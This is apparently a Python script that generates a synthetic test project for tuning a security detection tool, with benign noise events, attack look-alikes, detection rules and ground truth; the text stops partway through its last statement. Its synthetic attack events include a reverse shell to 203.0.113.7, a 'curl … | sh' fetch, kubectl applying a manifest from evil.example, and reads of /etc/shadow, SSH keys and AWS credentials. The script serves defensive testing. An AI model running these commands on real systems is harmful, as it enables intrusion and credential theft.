#!/usr/bin/env python3
"""Plants k noisy causes under attacks: a project folder for tests of `mews tune`.

    plant.py --seed 1 --causes 15 --rulesets rulesets OUT

writes OUT/{mews.yaml, rulesets/, corpus/tuning/, later/, truth.json}. Everything is made up by this script, and its
datasets say so. `corpus` is what tune may see: noise of k causes over some days (benign), ordinary events, and attacks,
a part of which look like the noise. `later` it never sees: noise of the same causes on the days after, and look-alikes
of other kinds. truth.json says how many alerts of what the script planted.

A cause has stable parts (program, parent, user, the shape of its words, folders) and varying ones (numbers, dates, hashes,
temporary names, tags, hosts, projects). A look-alike shares program, user and often more with a cause, and differs in
what it does: another path, image, argument or destination.
"""
import argparse
import json
import pathlib
import random
import shutil
import string

DETECTIONS = {
    "planted-archive-of-secrets": ("process", 'process where event.action == "exec" and process.name in ("tar", "rsync", "restic", "cp", "scp", "rclone") and process.args like ("/etc*", "/root*", "/srv*", "/var/lib*", "/home*")'),
    "planted-secret-read": ("file", 'file where event.action == "open" and file.path like ("/etc/shadow*", "/etc/ssl/private/*", "/root/*", "/var/lib/*/secrets/*", "/srv/*/config/*", "/home/*/.ssh/*")'),
    "planted-temporary-program": ("process", 'process where event.action == "exec" and (process.executable like ("/tmp/*", "/var/tmp/*", "/dev/shm/*") or process.args like ("/tmp/*", "/var/tmp/*", "*/tmp/*", "/dev/shm/*"))'),
    "planted-shell-by-service": ("process", 'process where event.action == "exec" and process.name in ("sh", "bash", "dash") and process.parent.name in ("java", "nginx", "postgres", "node", "python3", "jenkins", "gitlab-runner", "telegraf", "zabbix_agentd", "puppet")'),
    "planted-fetch": ("network", 'network where event.action == "connect" and process.name in ("curl", "wget", "python3", "java", "git", "pip3")'),
    "planted-startup-changed": ("file", 'file where event.action in ("create", "modify", "rename") and file.path like ("/etc/cron.d/*", "/etc/systemd/system/*", "/etc/sudoers.d/*", "/etc/profile.d/*", "/etc/ssh/*")'),
    "planted-engine-client": ("process", 'process where event.action == "exec" and process.name in ("docker", "podman", "nerdctl", "kubectl", "helm") and process.args in ("run", "exec", "apply", "upgrade", "build")'),
    "planted-kernel-tool": ("process", 'process where event.action == "exec" and process.name in ("bpftrace", "tcpdump", "strace", "perf", "insmod", "modprobe", "nsenter")'),
    "planted-secret-asked": ("api", 'api where event.action in ("get", "list", "watch") and orchestrator.resource.type == "secrets"'),
    "planted-account-tool": ("process", 'process where event.action == "exec" and process.name in ("useradd", "usermod", "passwd", "chage", "gpasswd", "sudo")'),
}

SAMPLES = {
    "planted-archive-of-secrets": {"process.name": "tar", "process.args": ["tar", "c", "/etc"]},
    "planted-secret-read": {"file.path": "/etc/shadow"},
    "planted-temporary-program": {"process.executable": "/tmp/x"},
    "planted-shell-by-service": {"process.name": "sh", "process.parent.name": "nginx"},
    "planted-fetch": {"process.name": "curl"},
    "planted-startup-changed": {"event.action": "create", "file.path": "/etc/cron.d/x"},
    "planted-engine-client": {"process.name": "docker", "process.args": ["docker", "run", "x"]},
    "planted-kernel-tool": {"process.name": "perf"},
    "planted-account-tool": {"process.name": "sudo"},
    "planted-secret-asked": {"orchestrator.resource.type": "secrets"},
}
ACTIONS = {"process": "exec", "file": "open", "network": "connect", "api": "get"}
WORDS = ("alpha beacon cedar delta ember falcon garnet harbor indigo juniper kestrel lumen maple nectar onyx pioneer quartz "
         "raven saffron timber umber violet walnut xenon yarrow zephyr orbit prism summit tundra").split()
PEOPLE = "alice bob carol dave erin frank grace heidi ivan judy mallory niaj olivia peggy rupert sybil trent victor".split()


def hexes(rng, n):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def uuid(rng):
    return "-".join(hexes(rng, n) for n in (8, 4, 4, 4, 12))


def letters(rng, n):
    return "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(n))


class Plant:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.words = WORDS[:]
        self.rng.shuffle(self.words)
        self.used = 0

    def word(self):
        self.used += 1
        return self.words[self.used % len(self.words)] + ("" if self.used < len(self.words) else str(self.used // len(self.words)))


def day(t):
    import datetime
    return datetime.datetime.fromtimestamp(t, datetime.timezone.utc).strftime("%Y-%m-%d")


def process(program, args, parent, user, host, cwd=None, **more):
    event = {"event.category": "process", "event.action": "exec", "process.executable": program,
             "process.name": program.rsplit("/", 1)[-1], "process.args": args, "process.parent.executable": parent,
             "process.parent.name": parent.rsplit("/", 1)[-1], "user.name": user, "host.name": host}
    if cwd:
        event["process.working_directory"] = cwd
    event.update(more)
    return event


def touch(action, path, program, parent, user, host, **more):
    event = {"event.category": "file", "event.action": action, "file.path": path, "process.executable": program,
             "process.name": program.rsplit("/", 1)[-1], "process.parent.executable": parent, "user.name": user, "host.name": host}
    event.update(more)
    return event


def connect(address, port, program, args, parent, user, host, **more):
    event = {"event.category": "network", "event.action": "connect", "destination.address": address, "destination.ip": address,
             "destination.port": port, "source.port": 0, "process.executable": program, "process.name": program.rsplit("/", 1)[-1],
             "process.args": args, "process.parent.executable": parent, "user.name": user, "host.name": host}
    event.update(more)
    return event


# Each kind: a function of (plant, rng) that gives (make(rng, t) → event, [look-alike(rng, t) → event …], detection).

def ci_build(p, rng):
    group, user, hosts = p.word(), rng.choice(["ci", "gitlab-runner", "build"]), [f"ci-{i}" for i in range(1, rng.randint(2, 5))]
    projects = [p.word() for _ in range(rng.randint(1, 8))]
    registry = f"registry.{p.word()}.example"
    parent = rng.choice(["/usr/bin/gitlab-runner", "/usr/bin/java", "/opt/actions/Runner.Worker"])

    def make(r, t):
        project, number = r.choice(projects), r.randint(100, 9999)
        return process("/usr/bin/docker", ["docker", "run", "--rm", "-v", f"/builds/{group}/{project}/{number}:/src", "-w", "/src",
                                           f"{registry}/{group}/builder:{r.randint(1, 9)}.{r.randint(0, 30)}", "make", "-j4"],
                       parent, user, r.choice(hosts), f"/builds/{group}/{project}/{number}")

    def other_image(r, t):
        return process("/usr/bin/docker", ["docker", "run", "--rm", "-v", f"/builds/{group}/{projects[0]}/{r.randint(100, 9999)}:/src", "-w", "/src",
                                           "docker.io/xmrig/xmrig:latest", "make", "-j4"], parent, user, hosts[0],
                       f"/builds/{group}/{projects[0]}/{r.randint(100, 9999)}")

    def other_mount(r, t):
        return process("/usr/bin/docker", ["docker", "run", "--rm", "-v", "/:/src", "-w", "/src",
                                           f"{registry}/{group}/builder:{r.randint(1, 9)}.3", "make", "-j4"], parent, user, hosts[0],
                       f"/builds/{group}/{projects[0]}/{r.randint(100, 9999)}")

    def privileged(r, t):
        number = r.randint(100, 9999)
        return process("/usr/bin/docker", ["docker", "run", "--rm", "--privileged", "--pid=host", "-v", f"/builds/{group}/{projects[0]}/{number}:/src",
                                           "-w", "/src", f"{registry}/{group}/builder:2.3", "make", "-j4"], parent, user, hosts[0],
                       f"/builds/{group}/{projects[0]}/{number}")
    return make, [other_image, other_mount, privileged], "planted-engine-client"


def backup(p, rng):
    name, user = p.word(), rng.choice(["root", "backup"])
    source = rng.choice([f"/srv/{name}", f"/var/lib/{name}", "/etc"])
    tool = rng.choice(["tar", "rsync", "restic"])
    script = f"/usr/local/sbin/backup-{name}"
    hosts = [f"db-{i}" for i in range(1, rng.randint(2, 4))]
    form = rng.choice(["date", "stamp"])

    def target(r, t):
        return f"/backup/{name}/{day(t)}" if form == "date" else f"/backup/{name}/{int(t)}"

    def args(r, t, what, where):
        return {"tar": ["tar", "-czf", f"{where}.tar.gz", what], "rsync": ["rsync", "-a", "--delete", f"{what}/", where],
                "restic": ["restic", "-r", f"/backup/{name}", "backup", what, "--tag", where.rsplit("/", 1)[-1]]}[tool]

    def make(r, t):
        return process(f"/usr/bin/{tool}", args(r, t, source, target(r, t)), script, user, r.choice(hosts), "/")

    def other_source(r, t):
        return process(f"/usr/bin/{tool}", args(r, t, "/root/.ssh", target(r, t)), script, user, hosts[0], "/")

    def other_target(r, t):
        return process(f"/usr/bin/{tool}", args(r, t, source, f"/dev/shm/.{letters(r, 5)}"), script, user, hosts[0], "/")

    def by_hand(r, t):
        return process(f"/usr/bin/{tool}", args(r, t, source, f"/tmp/{letters(r, 6)}"), "/usr/bin/bash", user, hosts[0], "/tmp")
    return make, [other_source, other_target, by_hand], "planted-archive-of-secrets"


def config_management(p, rng):
    user = rng.choice(["ansible", "deploy", "root"])
    hosts = [f"{p.word()}-{i}" for i in range(1, rng.randint(3, 12))]
    tool = rng.choice(["ansible", "salt", "packer"])
    home = "/root" if user == "root" else f"/home/{user}"

    def make(r, t):
        if tool == "ansible":
            path = f"{home}/.ansible/tmp/ansible-tmp-{t:.6f}-{r.randint(1000, 99999)}-{r.randint(10**13, 10**15)}/AnsiballZ_{r.choice(['copy', 'setup', 'systemd', 'apt', 'template'])}.py"
        elif tool == "salt":
            path = f"/var/tmp/.{user}_salt_{hexes(r, 6)}/py3/salt-call"
        else:
            path = f"/tmp/packer-shell{r.randint(10**8, 10**9)}"
        return process("/usr/bin/python3.11" if tool != "packer" else "/usr/bin/bash", ["python3" if tool != "packer" else "bash", path],
                       "/usr/bin/sudo" if tool == "ansible" else "/usr/sbin/sshd", user, r.choice(hosts), home)

    def other_script(r, t):
        return process("/usr/bin/python3.11" if tool != "packer" else "/usr/bin/bash", ["python3", f"/tmp/.{letters(r, 6)}/x.py"],
                       "/usr/bin/sudo" if tool == "ansible" else "/usr/sbin/sshd", user, hosts[0], home)

    def memory(r, t):
        return process("/usr/bin/python3.11", ["python3", "/dev/shm/AnsiballZ_copy.py"], "/usr/bin/sudo", user, hosts[0], home)
    return make, [other_script, memory], "planted-temporary-program"


def agent_script(p, rng):
    agent, parent = rng.choice([("telegraf", "/usr/bin/telegraf"), ("zabbix", "/usr/sbin/zabbix_agentd"), ("puppet", "/opt/puppetlabs/bin/puppet")])
    check = p.word()
    hosts = [f"node-{i}" for i in range(1, rng.randint(2, 25))]

    def make(r, t):
        return process("/usr/bin/dash", ["sh", "-c", f"/usr/lib/{agent}/plugins/check_{check} --warn {r.randint(50, 80)} --crit {r.randint(81, 99)} -H {r.choice(hosts)}"],
                       parent, agent, r.choice(hosts), "/")

    def reverse(r, t):
        return process("/usr/bin/dash", ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], parent, agent, hosts[0], "/")

    def chained(r, t):
        return process("/usr/bin/dash", ["sh", "-c", f"/usr/lib/{agent}/plugins/check_{check} --warn 60 --crit 90 -H {hosts[0]}; curl http://203.0.113.9/x | sh"],
                       parent, agent, hosts[0], "/")

    def other_plugin(r, t):
        return process("/usr/bin/dash", ["sh", "-c", f"/usr/lib/{agent}/plugins/.{letters(r, 4)}"], parent, agent, hosts[0], "/")
    return make, [reverse, chained, other_plugin], "planted-shell-by-service"


def api_client(p, rng):
    name, user = p.word(), rng.choice(PEOPLE + ["svc-report", "app"])
    net = f"10.{rng.randint(0, 250)}.{rng.randint(0, 250)}"
    program = rng.choice(["/usr/bin/curl", "/usr/bin/python3", "/usr/bin/git"])
    hosts = [f"app-{i}" for i in range(1, rng.randint(2, 6))]
    script = f"/opt/{name}/bin/sync"
    port = rng.choice([443, 8443, 8080])

    def words(r, path):
        return {"curl": ["curl", "-sf", "-H", f"X-Request-Id: {uuid(r)}", f"https://{name}.internal.example{path}"],
                "python3": ["python3", f"/opt/{name}/poll.py", "--id", str(r.randint(1, 10**6))],
                "git": ["git", "fetch", f"https://git.internal.example/{name}.git"]}[program.rsplit("/", 1)[-1]]

    def make(r, t):
        return connect(f"{net}.{r.randint(1, 254)}", port, program, words(r, f"/v1/items/{r.randint(1, 9999)}"), script, user, r.choice(hosts))

    def outside(r, t):
        return connect("203.0.113.66", port, program, words(r, "/v1/items/1"), script, user, hosts[0])

    def other_url(r, t):
        return connect(f"{net}.9", 4444, program, ["curl", "-o", "/tmp/.x", "http://stage.example/x"], script, user, hosts[0])
    return make, [outside, other_url], "planted-fetch"


def package(p, rng):
    name = p.word()
    tool, parent = rng.choice([("/usr/bin/dpkg", "/usr/bin/apt-get"), ("/usr/bin/puppet", "/usr/bin/ruby"), ("/usr/bin/python3", "/usr/bin/cloud-init")])
    folder = rng.choice(["/etc/cron.d", "/etc/systemd/system", "/etc/profile.d"])
    hosts = [f"web-{i}" for i in range(1, rng.randint(2, 9))]
    units = [p.word() for _ in range(rng.randint(1, 4))]

    def make(r, t):
        unit = r.choice(units)
        path = f"{folder}/{name}-{unit}" + r.choice(["", ".dpkg-new", f".{hexes(r, 8)}"])
        return touch(r.choice(["create", "modify"]), path, tool, parent, "root", r.choice(hosts))

    def other_file(r, t):
        return touch("create", f"{folder}/{letters(r, 5).lower()}x", tool, parent, "root", hosts[0])

    def sudoers(r, t):
        return touch("modify", "/etc/sudoers.d/10-all", tool, parent, "root", hosts[0])
    return make, [other_file, sudoers], "planted-startup-changed"


def secret_reader(p, rng):
    name = p.word()
    program = rng.choice([f"/opt/{name}/bin/{name}d", "/usr/bin/node", "/usr/bin/java"])
    user = rng.choice([name, "www-data", "app"])
    path = rng.choice([f"/srv/{name}/config/", f"/var/lib/{name}/secrets/", "/etc/ssl/private/"])
    hosts = [f"app-{i}" for i in range(1, rng.randint(2, 6))]

    def make(r, t):
        return touch("open", path + r.choice([f"{name}.key", f"token-{r.randint(1, 40)}", f"..{day(t)}/data"]), program, "/usr/lib/systemd/systemd", user, r.choice(hosts))

    def other_path(r, t):
        return touch("open", r.choice(["/etc/shadow", "/root/.ssh/id_ed25519", f"/home/{r.choice(PEOPLE)}/.ssh/id_rsa"]), program, "/usr/lib/systemd/systemd", user, hosts[0])

    def by_shell(r, t):
        return touch("open", path + f"{name}.key", "/usr/bin/cat", "/usr/bin/bash", user, hosts[0])
    return make, [other_path, by_shell], "planted-secret-read"


def operator(p, rng):
    user = rng.choice(PEOPLE)
    app = p.word()
    tool = rng.choice(["kubectl", "helm"])
    hosts = [f"bastion-{i}" for i in range(1, 3)]
    spaces = [p.word() for _ in range(rng.randint(1, 5))]

    def make(r, t):
        space = r.choice(spaces)
        args = ["kubectl", "apply", "-n", space, "-f", f"/home/{user}/deploy/{app}/{space}.yaml"] if tool == "kubectl" else \
            ["helm", "upgrade", app, f"./charts/{app}", "-n", space, "--set", f"image.tag={r.randint(1, 4)}.{r.randint(0, 60)}.{r.randint(0, 9)}"]
        return process(f"/usr/local/bin/{tool}", args, f"/home/{user}/bin/deploy.sh", user, r.choice(hosts), f"/home/{user}/deploy")

    def other_file(r, t):
        return process(f"/usr/local/bin/{tool}", [tool, "apply", "-n", "kube-system", "-f", "https://evil.example/d.yaml"], f"/home/{user}/bin/deploy.sh", user, hosts[0], f"/home/{user}/deploy")

    def entered(r, t):
        return process(f"/usr/local/bin/{tool}", [tool, "exec", "-it", f"{app}-{hexes(r, 9)}-{hexes(r, 5)}", "--", "sh"], "/usr/bin/bash", user, hosts[0], f"/home/{user}")
    return make, [other_file, entered], "planted-engine-client"


def diagnosis(p, rng):
    user, unit = rng.choice(["netops", "root", "sre"]), p.word()
    tool, flags = rng.choice([("tcpdump", ["-i", "eth0", "-c", "100", "-w"]), ("perf", ["record", "-g", "-o"]), ("strace", ["-f", "-o"])])
    hosts = [f"edge-{i}" for i in range(1, rng.randint(2, 8))]

    def make(r, t):
        return process(f"/usr/bin/{tool}", [tool, *flags, f"/var/log/{unit}/{tool}-{int(t)}.out"], f"/usr/libexec/{unit}-probe", user, r.choice(hosts), "/")

    def other_out(r, t):
        return process(f"/usr/bin/{tool}", [tool, *flags, f"/tmp/.{letters(r, 6)}"], f"/usr/libexec/{unit}-probe", user, hosts[0], "/")

    def attached(r, t):
        return process(f"/usr/bin/{tool}", [tool, "-p", str(r.randint(2, 9999)), "-e", "trace=read"], "/usr/bin/bash", user, hosts[0], "/root")
    return make, [other_out, attached], "planted-kernel-tool"


def restarts(p, rng):
    user, service = rng.choice(PEOPLE + ["deploy"]), p.word()
    hosts = [f"web-{i}" for i in range(1, rng.randint(2, 9))]
    verbs = rng.sample(["restart", "reload", "status", "stop", "start"], rng.randint(1, 3))

    def make(r, t):
        return process("/usr/bin/sudo", ["sudo", "-n", "/usr/bin/systemctl", r.choice(verbs), f"{service}@{r.randint(1, 30)}.service"], f"/opt/{service}/release", user, r.choice(hosts), f"/opt/{service}")

    def shell(r, t):
        return process("/usr/bin/sudo", ["sudo", "-n", "/bin/bash"], f"/opt/{service}/release", user, hosts[0], f"/opt/{service}")

    def other_unit(r, t):
        return process("/usr/bin/sudo", ["sudo", "-n", "/usr/bin/systemctl", "stop", "auditd.service"], f"/opt/{service}/release", user, hosts[0], f"/opt/{service}")
    return make, [shell, other_unit], "planted-account-tool"


def container_agent(p, rng):
    name = p.word()
    image = f"quay.io/{name}/agent"
    nodes = [f"node-{i}" for i in range(1, rng.randint(3, 12))]
    mounts = rng.sample(["/proc:/host/proc:ro", "/sys:/host/sys:ro", "/:/rootfs:ro", "/run:/run:ro", "/var/lib/docker:/var/lib/docker:ro"], rng.randint(2, 4))

    def base(r, image_name, tag, mounts_now):
        return {"event.category": "container", "event.action": r.choice(["create"]), "container.image.name": image_name, "container.image.tag": tag,
                "container.name": f"{name}-agent-{hexes(r, 5)}", "container.id": hexes(r, 64), "container.mounts": mounts_now,
                "container.namespaces.host": ["pid"], "container.labels": [f"app={name}", f"rev={hexes(r, 8)}"], "user.name": "kubelet", "host.name": r.choice(nodes)}

    def make(r, t):
        return base(r, image, f"v{r.randint(1, 3)}.{r.randint(0, 20)}.{r.randint(0, 9)}", mounts)

    def other_image(r, t):
        return base(r, f"docker.io/{letters(r, 6).lower()}/agent", "latest", mounts)

    def writable(r, t):
        return base(r, image, "v1.2.3", [m.replace(":ro", ":rw") for m in mounts])
    return make, [other_image, writable], "host-namespaces-shared"


def service(p, rng):
    """One act in several events: a job that is started, reads its key, and reports over the network."""
    name, user = p.word(), rng.choice(["svc", "app", "root", "batch"])
    program, hosts = f"/opt/{name}/bin/job", [f"batch-{i}" for i in range(1, rng.randint(2, 6))]
    net = f"172.{rng.randint(16, 31)}.{rng.randint(0, 250)}"
    shell = rng.choice(["/usr/bin/dash", "/usr/bin/bash"])

    def steps(r, t):
        host, number = r.choice(hosts), r.randint(1, 10**6)
        yield process(shell, ["sh", "-c", f"/opt/{name}/bin/job --run {number}"], "/usr/bin/java", user, host, f"/opt/{name}")
        yield touch("open", f"/srv/{name}/config/job-{r.randint(1, 9)}.yaml", "/usr/bin/python3", shell, user, host)
        yield connect(f"{net}.{r.randint(2, 250)}", 9000, "/usr/bin/python3", ["python3", f"/opt/{name}/report.py", str(number)], shell, user, host)

    def make(r, t):
        return r.choice(list(steps(r, t)))

    def other_words(r, t):
        return process(shell, ["sh", "-c", "/tmp/.x/job --run 1"], "/usr/bin/java", user, hosts[0], f"/opt/{name}"), "planted-shell-by-service"

    def other_file(r, t):
        return touch("open", "/root/.aws/credentials", "/usr/bin/python3", shell, user, hosts[0]), "planted-secret-read"

    def other_address(r, t):
        return connect("198.51.100.4", 9000, "/usr/bin/python3", ["python3", f"/opt/{name}/report.py", "7"], shell, user, hosts[0]), "planted-fetch"
    return make, [other_words, other_file, other_address], "planted-shell-by-service"


def socket_user(p, rng):
    """A container that is given the engine's socket, as an engine's or a compose file's event tells it: no command line."""
    name, user = p.word(), rng.choice(["deploy", "root", "ops"])
    image = rng.choice([f"ghcr.io/{name}/proxy", f"{name}/runner", f"registry.{name}.example/tools/updater"])
    socket = "/run/docker.sock:/var/run/docker.sock:" + rng.choice(["ro", "rw"])
    data = rng.random() < 0.5
    hosts = [f"dock-{i}" for i in range(1, rng.randint(2, 5))]

    def event(r, image_name, mounts):
        return {"event.category": "container", "event.action": "create", "container.image.name": image_name, "container.image.tag": f"{r.randint(1, 5)}.{r.randint(0, 40)}",
                "container.name": f"{name}_{r.choice(['web', 'proxy', 'watch'])}_{r.randint(1, 5)}", "container.id": hexes(r, 64), "container.mounts": mounts,
                "container.labels": [f"com.docker.compose.project={name}"], "user.name": user, "host.name": r.choice(hosts)}

    def usual(r):
        return [socket] + ([f"/srv/{name}/data-{r.randint(1, 50)}:/data:rw"] if data else [])

    def make(r, t):
        return event(r, image, usual(r))

    def other_image(r, t):
        return event(r, f"docker.io/{letters(r, 5).lower()}/proxy", usual(r))

    def one_more_mount(r, t):
        return event(r, image, usual(r) + ["/etc:/host/etc:" + ("rw" if data else "ro")])

    def other_user(r, t):
        return {**event(r, image, usual(r)), "user.name": "www-data"}
    return make, [other_image, one_more_mount, other_user], "docker-socket-mount"


def controller(p, rng):
    """A controller of a cluster that reads the secrets of its own namespace."""
    name, space = p.word(), p.word()
    user = f"system:serviceaccount:{space}:{name}"
    agent = f"{name}/v{rng.randint(0, 3)}.{rng.randint(0, 20)}"

    def event(r, where, what, verb="get"):
        return {"event.category": "api", "event.action": verb, "user.name": user, "orchestrator.namespace": where, "orchestrator.resource.type": "secrets",
                "orchestrator.resource.name": what, "user_agent.original": f"{agent}.{r.randint(0, 9)} (linux/amd64) kubernetes/{hexes(r, 7)}",
                "source.ip": f"10.244.{r.randint(0, 8)}.{r.randint(1, 250)}", "url.path": f"/api/v1/namespaces/{where}/secrets/{what}", "http.request.method": "GET"}

    def make(r, t):
        return event(r, space, r.choice([f"{name}-tls", f"{name}-token-{letters(r, 5).lower()}", f"sh.helm.release.v1.{name}.v{r.randint(1, 80)}"]))

    def other_space(r, t):
        return event(r, "kube-system", f"{name}-tls")

    def other_secret(r, t):
        return event(r, space, r.choice(["admin-kubeconfig", "registry-credentials", "cloud-root"]))
    return make, [other_space, other_secret], "planted-secret-asked"


def developers(p, rng):
    """Many users who do the same, each at home and on a machine of their own."""
    project = p.word()
    users = rng.sample(PEOPLE, rng.randint(4, 12))
    registry = f"registry.{p.word()}.example"

    def event(r, image, user=None):
        user = user or r.choice(users)
        return process("/usr/bin/podman", ["podman", "run", "-it", "--rm", "-v", f"/home/{user}/src/{project}:/work", image, "bash"],
                       "/usr/bin/zsh", user, f"laptop-{user}", f"/home/{user}/src/{project}")

    def make(r, t):
        return event(r, f"{registry}/dev/{project}:{r.randint(20, 26)}.{r.randint(1, 12)}")

    def other_image(r, t):
        return event(r, "docker.io/kalilinux/kali-rolling:latest")

    def other_mount(r, t):
        user = r.choice(users)
        return process("/usr/bin/podman", ["podman", "run", "-it", "--rm", "-v", "/etc:/work", f"{registry}/dev/{project}:22.4", "bash"],
                       "/usr/bin/zsh", user, f"laptop-{user}", f"/home/{user}/src/{project}")
    return make, [other_image, other_mount], "planted-engine-client"


def cache(p, rng):
    """A service that reads whatever lies below a folder, at any depth."""
    name = p.word()
    program, user = rng.choice(["/usr/sbin/nginx", f"/opt/{name}/bin/server", "/usr/bin/node"]), rng.choice(["www-data", name, "cache"])
    hosts = [f"edge-{i}" for i in range(1, rng.randint(2, 7))]

    def make(r, t):
        below = "/".join(r.choice(WORDS) + r.choice(["", str(r.randint(1, 99))]) for _ in range(r.randint(1, 4)))
        return touch("open", f"/srv/{name}/config/{below}.{r.choice(['yaml', 'json', 'conf'])}", program, "/usr/lib/systemd/systemd", user, r.choice(hosts))

    def other_path(r, t):
        return touch("open", r.choice(["/root/.kube/config", "/etc/shadow", f"/srv/{r.choice(WORDS)}x/config/db.yaml"]), program, "/usr/lib/systemd/systemd", user, hosts[0])

    def other_program(r, t):
        return touch("open", f"/srv/{name}/config/db.yaml", "/usr/bin/base64", "/usr/bin/bash", user, hosts[0])
    return make, [other_path, other_program], "planted-secret-read"


def updater(p, rng):
    """A mirror that asks a fixed set of sites."""
    name, user = p.word(), rng.choice(["mirror", "root", "apt"])
    sites = [f"{p.word()}.{rng.choice(['org', 'net', 'example'])}" for _ in range(rng.randint(6, 25))]
    hosts = [f"mirror-{i}" for i in range(1, rng.randint(2, 4))]

    def event(r, site):
        return connect(f"{r.randint(20, 200)}.{r.randint(0, 250)}.{r.randint(0, 250)}.{r.randint(1, 250)}", 443, "/usr/bin/wget", ["wget", "-q", "-O", f"/var/cache/{name}/index-{r.randint(1, 10**5)}", f"https://{site}/index"],
                       f"/usr/libexec/{name}-mirror", user, r.choice(hosts), **{"destination.domain": site})

    def make(r, t):
        return event(r, r.choice(sites))

    def other_site(r, t):
        return event(r, "paste.evil-site.example")

    def other_file(r, t):
        site = r.choice(sites)
        return {**event(r, site), "process.args": ["wget", "-q", "-O", "/etc/cron.d/x", f"https://{site}/index"]}
    return make, [other_site, other_file], "planted-fetch"


KINDS = [ci_build, backup, config_management, agent_script, api_client, package, secret_reader, operator, diagnosis, restarts, container_agent,
         service, socket_user, controller, developers, cache, updater]


def ordinary(rng, t):
    user = rng.choice(PEOPLE + ["root", "www-data", "app"])
    host = rng.choice([f"web-{i}" for i in range(1, 9)] + [f"db-{i}" for i in range(1, 4)] + ["bastion-1"])
    choice = rng.random()
    if choice < 0.5:
        program = rng.choice(["ls", "grep", "git", "vim", "make", "gcc", "awk", "sed", "ps", "ssh", "tar", "sh", "docker"])
        return process(f"/usr/bin/{program}", [program, rng.choice(["-l", "-a", "--version", f"/data/{rng.choice(WORDS)}"])], "/usr/bin/bash", user, host, f"/data/{user}")
    if choice < 0.8:
        return touch(rng.choice(["open", "modify"]), f"/data/{rng.choice(WORDS)}/{rng.randint(1, 400)}.txt", f"/usr/bin/{rng.choice(['vim', 'cat', 'node', 'java'])}", "/usr/bin/bash", user, host)
    return connect(f"10.1.{rng.randint(0, 250)}.{rng.randint(1, 250)}", rng.choice([22, 5432, 443]), "/usr/bin/ssh", ["ssh", "x"], "/usr/bin/bash", user, host)


def write(path, events):
    path.parent.mkdir(parents=True, exist_ok=True)
    events.sort(key=lambda e: e[0])
    with path.open("w") as out:
        for t, event in events:
            whole = {"@timestamp": f"{t:.6f}", "process.pid": int(t * 7) % 32768, **event}
            if "source.port" in whole:
                whole["source.port"] = 32768 + int(t * 13) % 28000
            if event["event.category"] in ("container", "api"):
                del whole["process.pid"]
            out.write(json.dumps(whole) + "\n")


def dataset(path, name, use, episodes):
    lines = [f"name: {name}", "format: json", "dialect: ecs", 'files: ["events/*.jsonl"]', f"use: {use}",
             "origin: made by tests/tune/plant.py; nothing of it ever happened", "license: CC0-1.0", "default: benign", "episodes:" if episodes else "episodes: []"]
    for file, detection in episodes:
        lines += [f"  - name: {file}", f'    files: ["events/{file}.jsonl"]', "    label: malicious", f"    expects: [{detection}]"]
    path.write_text("\n".join(lines) + "\n")


def attack(name, other, detection, events):
    """Some look-alikes say themselves which detection they are for."""
    if isinstance(events[0][1], tuple):
        detection = events[0][1][1]
        events = [(t, event[0]) for t, event in events]
    return f"{name}-{other.__name__.replace('_', '-')}", detection, events


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--seed", type=int, required=True)
    parser.add_argument("--causes", type=int, required=True)
    parser.add_argument("--rulesets", required=True)
    parser.add_argument("--events", type=int, default=0, help="of noise, about; 0: as it comes")
    parser.add_argument("--budget", default="0")
    parser.add_argument("out")
    a = parser.parse_args()
    plant, out = Plant(a.seed), pathlib.Path(a.out)
    rng = plant.rng
    shutil.rmtree(out, ignore_errors=True)
    shutil.copytree(a.rulesets, out / "rulesets", ignore=shutil.ignore_patterns("packs"))
    for file in (out / "rulesets/organizations").glob("*.yaml"):
        file.unlink()
    for name, (category, condition) in DETECTIONS.items():
        (out / f"rulesets/detections/{name}.yaml").write_text(f"""id: {uuid(random.Random(name))[:14]}4{uuid(random.Random(name))[15:19]}a{uuid(random.Random(name))[20:]}
name: {name}
title: {name}
description: Made for a test of tune.
status: test
severity: medium
techniques: [T1611]
surface: host
author: mews project
date: 2026-11-23
conditions:
  planted: |
    {condition}
tests:
  - name: nothing
    event: {{event.category: {category}, event.action: {ACTIONS[category]}, user.name: nobody}}
    expect: no-match
  - name: such an event
    event: {json.dumps({"event.category": category, "event.action": ACTIONS[category], **SAMPLES[name]})}
    expect: match
""")
    (out / "rulesets/organizations/planted.yaml").write_text(f"""name: planted
title: Planted noise
monitor: {{minimum_severity: low, disable: [], severity: {{}}}}
risky: alert
budget: {{alert_groups_per_day: {a.budget}}}
exceptions: []
""")
    (out / "mews.yaml").write_text("catalog: rulesets\ncorpus: corpus\nstore: mews.db\norganizations: [planted]\n")

    start, days = 1790000000, rng.randint(3, 7)
    end = start + days * 86400
    noise, later, attacks, look_alikes, planted = [], [], [], [], []
    for i in range(a.causes):
        make, others, detection = rng.choice(KINDS)(plant, rng)
        amount = int(rng.choice([20, 40, 80, 150, 300]) * rng.uniform(0.7, 1.4)) if not a.events else max(1, a.events // a.causes)
        for _ in range(amount):
            t = rng.uniform(start, end)
            noise.append((t, make(rng, t)))
        for _ in range(max(5, min(amount // 4, 200))):
            t = rng.uniform(end, end + 86400)
            later.append((t, make(rng, t)))
        rng.shuffle(others)
        seen = others[:len(others) // 2] if rng.random() < 0.6 else []
        for other in seen:
            t = rng.uniform(start, end)
            attacks.append(attack(f"attack-{i}", other, detection, [(t + n, other(rng, t)) for n in range(rng.randint(1, 3))]))
        for other in others[len(seen):]:
            t = rng.uniform(end, end + 86400)
            look_alikes.append(attack(f"alike-{i}", other, detection, [(t, other(rng, t))]))
        planted.append({"kind": make.__qualname__.split(".")[0], "events": amount, "detection": detection})
    for _ in range(max(2000, len(noise))):
        t = rng.uniform(start, end)
        noise.append((t, ordinary(rng, t)))

    write(out / "corpus/tuning/events/noise.jsonl", noise)
    for name, _, events in attacks:
        write(out / f"corpus/tuning/events/{name}.jsonl", events)
    dataset(out / "corpus/tuning/corpus.yaml", "tuning", "develop", [(n, d) for n, d, _ in attacks])
    write(out / "later/more/events/noise.jsonl", later)
    for name, _, events in look_alikes:
        write(out / f"later/more/events/{name}.jsonl", events)
    dataset(out / "later/more/corpus.yaml", "more", "develop", [(n, d) for n, d, _ in look_alikes])
    (out / "truth.json").write_text(json.dumps({"seed": a.seed, "causes": planted, "attacks": len(attacks), "look_alikes": len(look_alikes),
